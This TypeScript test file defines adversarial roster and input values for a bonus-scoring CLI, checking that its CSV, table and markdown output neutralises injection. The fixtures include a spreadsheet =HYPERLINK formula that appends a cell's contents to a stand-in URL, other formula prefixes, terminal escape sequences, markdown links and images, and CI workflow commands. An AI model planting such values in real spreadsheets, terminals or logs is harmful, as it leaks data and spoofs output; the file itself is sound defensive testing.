import { type BadInputs, error, note } from './bad-input.ts';
import { actuals, metric, named, roster, withMetrics } from './small-firm.ts';

const HYPERLINK = '=HYPERLINK("http://x/?"&A1,"ok")';

/** The names of D001, D002 and on, each in quotes; all have the same actual. */
const people = (...names: readonly string[]) => ({
  files: {
    'roster.csv': roster(...names.map((name, index) => `D00${index + 1},"${name}",50000`)),
    'in.csv': actuals(...names.map(() => '90')),
  },
});

/** What we may have computed below 0: a metric's score where the floor lets it. */
const NEGATIVE = withMetrics(
  metric({ unit: 'points', curve: '{ anchors: [[-100, -100], [target, 100]] }', floor: '-100' }),
);

const OWN_RESULT = `director,name,period,score,grade,coefficient,base,proration,bonus,coverage,due,results
D001,Zhang San,2026-Q1,90.00,A,1.2,50000.00,1,,100,100,90.00
`;

const TABLE = 'scorecard score t.yaml roster.csv in.csv --period 2026-Q1';

export const OUTPUT_INJECTION: BadInputs = {
  O01: {
    files: { 'roster.csv': named(HYPERLINK) },
    prints: [`D001,"'${HYPERLINK.replaceAll('"', '""')}",2026-Q1,`],
    result: { D001: { name: HYPERLINK } },
  },
  O03: [
    {
      ...people('@SUM(1,1)', '+8613800138000', '-2+3'),
      prints: [`D001,"'@SUM(1,1)",`, /^D002,"?'\+8613800138000"?,/mu, /^D003,"?'-2\+3"?,/mu],
    },
    {
      files: { 't.yaml': NEGATIVE, 'in.csv': actuals('-5') },
      prints: [/^D001,.*,-5\.00$/mu],
    },
  ],
  O04: [
    ['\t', '\\t'],
    ['\r', '\\r'],
    ['\n', '\\n'],
  ].flatMap(([character = '', shown = '']) => {
    const person = people(`${character}=1+1`);
    return [
      { ...person, prints: [`D001,"'${character}=1+1",2026-Q1`] },
      { ...person, command: TABLE, prints: [`│ ${shown}=1+1 │`] },
      { ...person, command: `${TABLE} --format markdown`, prints: [`| \\${shown}=1`] },
    ];
  }),
  O06: { ...people('a;=1+1', 'a\t=1+1'), prints: ['D001,"a;=1+1",2026-Q1', 'D002,"a\t=1+1",2026-Q1'] },
  O07: [
    {
      files: { 'result.csv': OWN_RESULT },
      finds: [error('own-output', 'result.csv:1', 'scorecard', 'data')],
    },
    {
      files: { 'data/result.csv': OWN_RESULT, 'data/in.csv': actuals('90') },
      command: 'scorecard score t.yaml data --period 2026-Q1',
      exit: [0],
      finds: [note('own-output', 'result.csv', 'scorecard')],
      result: { D001: { score: 90 } },
    },
  ],
  O11: {
    ...people('a|b', '`x`', '[x](http://e)', '![](http://e/p.png)', '# h', '<b>'),
    prints: [
      '| D001 | a\\|b |',
      '| D002 | \\`x\\` |',
      /\| D003 \| \\\[x\\\]\\?\(http(?::|&#58;)\/\/e\\?\) \|/u,
      /\| D004 \| \\!\\\[\\\]\\?\(http(?::|&#58;)\/\/e\/p\.png\\?\) \|/u,
      '| D005 | \\# h |',
      /\| D006 \| (?:&lt;|\\<)b\\?> \|/u,
    ],
  },
  O12: {
    ...people('\u001b[2J\u001b]0;pwn\u0007', '\u009b31m', 'a\u007fb'),
    prints: ['\\x1b[2J\\x1b]0;pwn', '\\x9b31m', 'a\\x7fb'],
  },
  O15: {
    files: { 'in.csv': actuals('x'.repeat(1_000_000)) },
    finds: [error('number-too-long', 'in.csv:2:22', /"x{10,60}…"/u)],
    never: [/x{200}/u],
    within: 2,
  },
  O16: people('::error::x', '%0A::error::x', '::set-output name=a::b'),
  O17: {
    ...people('👨‍👩‍👧', '欧阳修', 'Jose\u0301', 'Li Si'),
    prints: [
      `│ D001     │ 👨‍👩‍👧     │ 90.00 │
│ D002     │ 欧阳修 │ 90.00 │
│ D003     │ Jose\u0301   │ 90.00 │
│ D004     │ Li Si  │ 90.00 │
`.replaceAll('│\n', '│ A     │    1.2 │     100% │   90.00 │\n'),
    ],
  },
};
